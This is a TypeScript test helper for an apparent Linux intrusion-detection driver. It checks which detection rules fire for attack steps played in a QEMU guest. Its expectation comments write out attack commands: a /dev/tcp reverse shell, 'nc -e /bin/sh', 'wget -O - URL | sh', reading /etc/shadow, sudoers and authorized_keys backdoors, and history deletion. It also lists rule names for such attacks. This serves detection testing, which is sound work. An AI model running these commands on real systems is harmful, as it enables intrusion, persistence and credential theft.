// What driver/tests/guest/vigil-exercise.c did in the QEMU guest (its
// exercise.json), and which default rules its attacker steps must fire when the
// captured /dev/vigil stream goes through the pipeline: one alert per attack,
// on the process that did it, and nothing for the benign look-alikes. Shared by
// test/e2e/driver-stream.test.ts (committed fixture) and
// test/qemu/driver-in-qemu.test.ts (the stream of that very run).

import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import type { EcsDocument } from "@vigil/common";

export const REPO = resolve(__dirname, "../..");
export const DEFAULT_RULES_DIR = join(REPO, "rules/linux");

/** Static bash for the guest (busybox sh has no /dev/tcp): apt-get install bash-static. */
export const GUEST_BASH = "/bin/bash-static";

/**
 * run-guest.sh options for a capture the rules can be checked against: the
 * file hooks watch the exercise's directory plus /etc/ and /root/ (where the
 * persistence files go), and bash is in the guest.
 */
export const EXERCISE_GUEST_ARGS = [
  "-c",
  "watch /tmp/watched/",
  "-c",
  "watch /etc/",
  "-c",
  "watch /root/",
  "-a",
  GUEST_BASH,
];

/** Throws naming the package when the guest's bash is missing (no silent skip). */
export function assertGuestBash(): void {
  if (!existsSync(GUEST_BASH)) {
    throw new Error(`${GUEST_BASH} not found: apt-get install bash-static (the guest's /bin/bash)`);
  }
}

/** One command the guest program ran: {"pid","executable","resolved","argv","exitCode"}. */
export interface GuestCommand {
  pid: number;
  /** The path the program gave execve. */
  executable: string;
  /** That path resolved (realpath in the guest; a script's interpreter): the EXEC record's exe_path. */
  resolved: string;
  argv: string[];
  /** Set for a #! script: the kernel then reports argv as [interpreter, script, args...]. */
  interpreter?: string;
  exitCode: number;
}

export interface GuestConnection extends GuestCommand {
  remoteIp: string;
  port: number;
  /** 1 when the program's listener saw the connection, else -errno. */
  connected: number;
  /** The program then exec'd on the connection (its stdin/stdout the socket), and its resolved path. */
  shell?: string;
  shellResolved?: string;
}

/** The attacker part of exercise.json (see the comment at the top of vigil-exercise.c). */
export interface DriverExercise {
  pid: number;
  argv: string[];
  ptrace: { pid: number; request: number; target: number; result: number };
  memfd: { pid: number; name: string; result: number; execPid: number; execExitCode: number };
  chmod: { pid: number; path: string; mode: number; result: number };
  setup: { pid: number; remoteIp: string; addressResult: number; bashResult: number };
  attacks: {
    privesc: GuestCommand & { uid: number; dropResult: number; regainResult: number; rootResult: number };
    tempExec: GuestCommand;
    cron: GuestCommand;
    sudoers: GuestCommand;
    ldPreload: { pid: number; path: string; exitCode: number };
    authorizedKeys: GuestCommand;
    devTcp: GuestConnection;
    netcat: GuestConnection;
    download: GuestConnection;
    moduleLoad: GuestCommand;
    accountCreation: GuestCommand;
    historyDelete: GuestCommand;
    historyDisable: GuestCommand;
  };
  benign: {
    catPasswd: GuestCommand;
    motd: GuestCommand;
    probeStandardPort: GuestConnection;
    probeLoopback: GuestConnection;
  };
}

export function readExercise(path: string): DriverExercise {
  const exercise = JSON.parse(readFileSync(path, "utf8")) as DriverExercise;
  if (typeof exercise.attacks !== "object" || typeof exercise.benign !== "object") {
    throw new Error(`${path}: no "attacks"/"benign" sections: not from the current vigil-exercise.c`);
  }
  return exercise;
}

/** A default rule by its file name (without .yml): id and title from the file, category from its folder. */
export interface RuleRef {
  file: string;
  id: string;
  title: string;
  category: string;
}

export function loadRuleRefs(dir = DEFAULT_RULES_DIR): Map<string, RuleRef> {
  const refs = new Map<string, RuleRef>();
  for (const category of readdirSync(dir)) {
    for (const name of readdirSync(join(dir, category)).filter((n) => n.endsWith(".yml"))) {
      const text = readFileSync(join(dir, category, name), "utf8");
      const id = /^id:\s*(\S+)/m.exec(text)?.[1];
      const title = /^title:\s*(.+)$/m.exec(text)?.[1]?.trim();
      const file = name.replace(/\.yml$/, "");
      if (id && title) refs.set(file, { file, id, title, category });
    }
  }
  return refs;
}

/** The rule categories the exercise's steps are about; every rule in them fires or is listed below. */
export const EXERCISED_CATEGORIES = [
  "process_creation",
  "file_event",
  "file_access",
  "network_connection",
  "privilege_change",
];

/** Default rules of those categories no step of the guest can fire, and why. */
export const RULES_NOT_EXERCISED: Record<string, string> = {
  proc_creation_lnx_reverse_shell_socat: "the guest has no socat",
  proc_creation_lnx_reverse_shell_interpreter: "the guest has no Python, Perl, Ruby or PHP",
  file_access_lnx_shadow_unexpected_reader:
    "vigil.ko reports opens for writing only (FILE_OPEN_WRITE), never a read-only open of /etc/shadow",
  file_access_lnx_ssh_private_key_read:
    "vigil.ko reports opens for writing only (FILE_OPEN_WRITE), never a read-only open of an SSH key",
  priv_change_lnx_dangerous_capability_gained:
    "the guest gains capabilities only by becoming root (setresuid to euid 0), which this rule leaves to priv_change_lnx_root_from_unprivileged",
  // Rules of the larger default ruleset that no step of vigil-exercise.c plays yet: each is
  // tested on ECS documents (rules/tests/<file>.yml), not on this capture.
  ...Object.fromEntries(
    [
      "proc_creation_lnx_audit_rules_deleted",
      "proc_creation_lnx_base64_decoded_to_shell",
      "proc_creation_lnx_cgroup_release_agent",
      "proc_creation_lnx_container_mount_host_fs",
      "proc_creation_lnx_credential_search",
      "proc_creation_lnx_crontab_from_file",
      "proc_creation_lnx_cryptominer_command_line",
      "proc_creation_lnx_curl_upload_data",
      "proc_creation_lnx_data_piped_to_network_tool",
      "proc_creation_lnx_database_spawns_shell",
      "proc_creation_lnx_disable_security_tools",
      "proc_creation_lnx_download_chmod_exec",
      "proc_creation_lnx_gdb_process_injection",
      "proc_creation_lnx_gtfobins_shell_escape",
      "proc_creation_lnx_kernel_thread_masquerade",
      "proc_creation_lnx_known_miner_binary",
      "proc_creation_lnx_ld_preload_command_line",
      "proc_creation_lnx_log_clearing",
      "proc_creation_lnx_nsenter_host_namespaces",
      "proc_creation_lnx_privesc_enumeration_script",
      "proc_creation_lnx_privileged_container_host_root",
      "proc_creation_lnx_ptrace_scope_lowered",
      "proc_creation_lnx_python_pty_spawn",
      "proc_creation_lnx_setcap_dangerous_capability",
      "proc_creation_lnx_setuid_bit_set",
      "proc_creation_lnx_ssh_private_key_access",
      "proc_creation_lnx_ssh_unusual_parent",
      "proc_creation_lnx_sshd_inbound_connection",
      "proc_creation_lnx_sshpass_usage",
      "proc_creation_lnx_suid_binary_discovery",
      "proc_creation_lnx_system_binary_name_unusual_path",
      "proc_creation_lnx_system_discovery_command",
      "proc_creation_lnx_timestomp",
      "proc_creation_lnx_webserver_spawns_shell",
      "file_event_lnx_hidden_file_in_temp",
      "file_event_lnx_init_script_persistence",
      "file_event_lnx_pam_modification",
      "file_event_lnx_shell_profile_modification",
      "file_event_lnx_system_binary_modified",
      "file_event_lnx_systemd_unit_persistence",
      "net_connection_lnx_mining_pool",
      "net_connection_lnx_shell_listening_socket",
    ].map((file) => [file, "no step of the guest exercise plays it (tested on rules/tests events)"]),
  ),
};

export interface ExpectedAlert {
  /** Rule file name without .yml. */
  rule: string;
  /** The acting process; with `orChildOf`, a process forked by it (no exec in between) also matches. */
  pid: number;
  orChild?: boolean;
  /** Must match the alert document (toMatchObject). */
  fields: EcsDocument;
  why: string;
}

/** The kernel's argv for a command: a #! script's is [interpreter, script path, arguments...]. */
export function kernelArgv(command: GuestCommand): string[] {
  return command.interpreter
    ? [command.interpreter, command.executable, ...command.argv.slice(1)]
    : command.argv;
}

/**
 * process.executable is the file that ran (symlinks resolved: the guest's /bin/sh is busybox; a
 * script's interpreter); process.exec_filename the path execve was given, when it differs.
 */
export function executablePaths(path: string, resolved: string): EcsDocument {
  return resolved === path ? { executable: path } : { executable: resolved, exec_filename: path };
}

function ran(command: GuestCommand): EcsDocument {
  return {
    process: {
      pid: command.pid,
      ...executablePaths(command.executable, command.resolved),
      args: kernelArgv(command),
    },
  };
}

/** The shell a reverse-shell step ran on its connection: its stdin and stdout are the socket to the listener. */
function onSocket(connection: GuestConnection, args: string[]): EcsDocument {
  const socket = (fd: string) => ({
    [`${fd}_type`]: "socket",
    [`${fd}_remote_ip`]: connection.remoteIp,
    [`${fd}_remote_port`]: String(connection.port),
  });
  return {
    process: { ...executablePaths(connection.shell ?? "", connection.shellResolved ?? ""), args },
    vigil: { ...socket("stdin"), ...socket("stdout") },
  };
}

/** The program itself, for steps done by a forked child without exec. */
function forkedFrom(exercise: DriverExercise, pid: number): EcsDocument {
  return { process: { pid, executable: exercise.argv[0], args: exercise.argv } };
}

export function expectedAlerts(exercise: DriverExercise): ExpectedAlert[] {
  const a = exercise.attacks;
  return [
    {
      rule: "priv_change_lnx_root_from_unprivileged",
      pid: a.privesc.pid,
      fields: forkedFrom(exercise, a.privesc.pid),
      why: `setresuid(-1, 0, -1) by uid ${a.privesc.uid} with saved uid 0`,
    },
    {
      rule: "proc_creation_lnx_shadow_file_read",
      pid: a.privesc.pid,
      fields: ran(a.privesc),
      why: "cat /etc/shadow",
    },
    {
      rule: "proc_creation_lnx_exec_from_temp_dir",
      pid: a.tempExec.pid,
      fields: ran(a.tempExec),
      why: "binary copied to /tmp and run",
    },
    {
      rule: "file_event_lnx_cron_modification",
      pid: a.cron.pid,
      fields: { ...ran(a.cron), file: { path: "/etc/cron.d/vigil-job" } },
      why: "echo ... > /etc/cron.d/vigil-job",
    },
    {
      rule: "file_event_lnx_sudoers_modification",
      pid: a.sudoers.pid,
      fields: { ...ran(a.sudoers), file: { path: "/etc/sudoers.d/vigil" } },
      why: "echo ... > /etc/sudoers.d/vigil",
    },
    {
      rule: "file_event_lnx_ld_so_preload",
      pid: a.ldPreload.pid,
      fields: { ...forkedFrom(exercise, a.ldPreload.pid), file: { path: a.ldPreload.path } },
      why: "open(/etc/ld.so.preload, O_CREAT|O_APPEND)",
    },
    {
      rule: "file_event_lnx_ssh_authorized_keys",
      pid: a.authorizedKeys.pid,
      fields: { ...ran(a.authorizedKeys), file: { path: "/root/.ssh/authorized_keys" } },
      why: "echo key >> /root/.ssh/authorized_keys",
    },
    {
      rule: "proc_creation_lnx_reverse_shell_dev_tcp",
      pid: a.devTcp.pid,
      fields: ran(a.devTcp),
      why: "bash -c 'bash -i >& /dev/tcp/... 0>&1'",
    },
    {
      // bash forks for the redirection + exec of `bash -i`: the connecting process is that child, still bash.
      rule: "net_connection_lnx_shell_nonstandard_port",
      pid: a.devTcp.pid,
      orChild: true,
      fields: {
        process: { ...executablePaths(a.devTcp.executable, a.devTcp.resolved), args: a.devTcp.argv },
        destination: { ip: a.devTcp.remoteIp, port: a.devTcp.port },
      },
      why: "bash connected to the listener through /dev/tcp",
    },
    {
      // The same forked child then execs `bash -i` with the socket on 0, 1 and 2.
      rule: "proc_creation_lnx_shell_socket_stdio",
      pid: a.devTcp.pid,
      orChild: true,
      fields: onSocket(a.devTcp, ["bash", "-i"]),
      why: "bash -i started on the /dev/tcp socket",
    },
    {
      rule: "proc_creation_lnx_reverse_shell_netcat",
      pid: a.netcat.pid,
      fields: ran(a.netcat),
      why: "nc HOST PORT -e /bin/sh",
    },
    {
      // nc connects, then execs the -e program in the same process with the socket as stdin/stdout.
      rule: "proc_creation_lnx_shell_socket_stdio",
      pid: a.netcat.pid,
      fields: onSocket(a.netcat, [a.netcat.shell ?? ""]),
      why: "/bin/sh exec'd by nc -e on the connection",
    },
    {
      rule: "proc_creation_lnx_download_piped_to_shell",
      pid: a.download.pid,
      fields: ran(a.download),
      why: "wget -O - URL | sh",
    },
    {
      rule: "proc_creation_lnx_kernel_module_load",
      pid: a.moduleLoad.pid,
      fields: ran(a.moduleLoad),
      why: "insmod (refused: the module is loaded already; the attempt is what counts)",
    },
    {
      rule: "proc_creation_lnx_account_creation",
      pid: a.accountCreation.pid,
      fields: ran(a.accountCreation),
      why: "useradd",
    },
    {
      rule: "proc_creation_lnx_history_tampering",
      pid: a.historyDelete.pid,
      fields: ran(a.historyDelete),
      why: "rm -f /root/.bash_history",
    },
    {
      rule: "proc_creation_lnx_history_tampering",
      pid: a.historyDisable.pid,
      fields: ran(a.historyDisable),
      why: "sh -c 'unset HISTFILE; ...'",
    },
    {
      rule: "file_delete_lnx_shell_history_deleted",
      pid: a.historyDelete.pid,
      fields: { ...ran(a.historyDelete), file: { path: "/root/.bash_history" } },
      why: "the unlink of /root/.bash_history itself (FILE_UNLINK)",
    },
    {
      rule: "proc_creation_lnx_privilege_grant_command",
      pid: a.sudoers.pid,
      fields: ran(a.sudoers),
      why: "a NOPASSWD sudo rule written from the command line",
    },
    // The guest's useradd is a shell script (no shadow-utils): the account files are written by
    // busybox sh, which the rule cannot tell from a backdoor account appended by hand.
    ...["/etc/passwd", "/etc/shadow", "/etc/group"].map((path) => ({
      rule: "file_event_lnx_account_database_modified",
      pid: a.accountCreation.pid,
      fields: ran(a.accountCreation),
      why: `the useradd script appends to ${path}`,
    })),
    // So is the guest's setup, which creates the account files with plain writes.
    ...["/etc/passwd", "/etc/group", "/etc/shadow"].map((path) => ({
      rule: "file_event_lnx_account_database_modified",
      pid: exercise.setup.pid,
      fields: forkedFrom(exercise, exercise.setup.pid),
      why: `the guest setup creates ${path} without an account tool`,
    })),
    {
      rule: "proc_creation_lnx_exec_from_memfd",
      pid: exercise.memfd.execPid,
      fields: { process: { pid: exercise.memfd.execPid, args: ["true"] } },
      why: "busybox copied into a memfd and run with execveat(AT_EMPTY_PATH)",
    },
    {
      // The FILE_CHMOD record's new mode, as ECS octal: the bit itself, not a chmod command line.
      rule: "file_change_lnx_setuid_bit_set",
      pid: exercise.chmod.pid,
      fields: {
        ...forkedFrom(exercise, exercise.chmod.pid),
        file: { path: exercise.chmod.path, mode: (exercise.chmod.mode & 0o7777).toString(8) },
        vigil: { old_mode: "0644" },
      },
      why: `chmod(${exercise.chmod.path}, 0${exercise.chmod.mode.toString(8)}) by the exercise program`,
    },
    {
      rule: "proc_access_lnx_ptrace_attach_non_debugger",
      pid: exercise.ptrace.pid,
      fields: forkedFrom(exercise, exercise.ptrace.pid),
      why: "PTRACE_ATTACH to a child by a program that is not a debugger",
    },
  ];
}

export interface AlertMatch {
  matched: Array<{ expected: ExpectedAlert; alert: EcsDocument }>;
  /** Expected alerts with no stored alert. */
  missing: string[];
  /** Stored alerts nothing expected: "<rule file> pid <pid> <command line>". */
  unexpected: string[];
}

function get(doc: EcsDocument, path: string): unknown {
  let at: unknown = doc;
  for (const key of path.split(".")) at = (at as EcsDocument | undefined)?.[key];
  return at;
}

/** Pairs stored alerts with the expected ones; each alert is used once. */
export function matchAlerts(
  alerts: EcsDocument[],
  exercise: DriverExercise,
  rules = loadRuleRefs(),
): AlertMatch {
  const fileById = new Map([...rules.values()].map((rule) => [rule.id, rule.file]));
  const pool = alerts.map((alert) => ({ alert, rule: fileById.get(String(get(alert, "rule.id"))) ?? "?" }));
  const result: AlertMatch = { matched: [], missing: [], unexpected: [] };
  for (const expected of expectedAlerts(exercise)) {
    const index = pool.findIndex(
      ({ alert, rule }) =>
        rule === expected.rule &&
        (get(alert, "process.pid") === expected.pid ||
          (expected.orChild === true && get(alert, "process.parent.pid") === expected.pid)),
    );
    if (index < 0) {
      result.missing.push(`${expected.rule} pid ${expected.pid} (${expected.why})`);
      continue;
    }
    result.matched.push({ expected, alert: pool[index].alert });
    pool.splice(index, 1);
  }
  result.unexpected = pool.map(
    ({ alert, rule }) =>
      `${rule} pid ${String(get(alert, "process.pid"))} ${String(get(alert, "process.command_line") ?? "")}`,
  );
  return result;
}
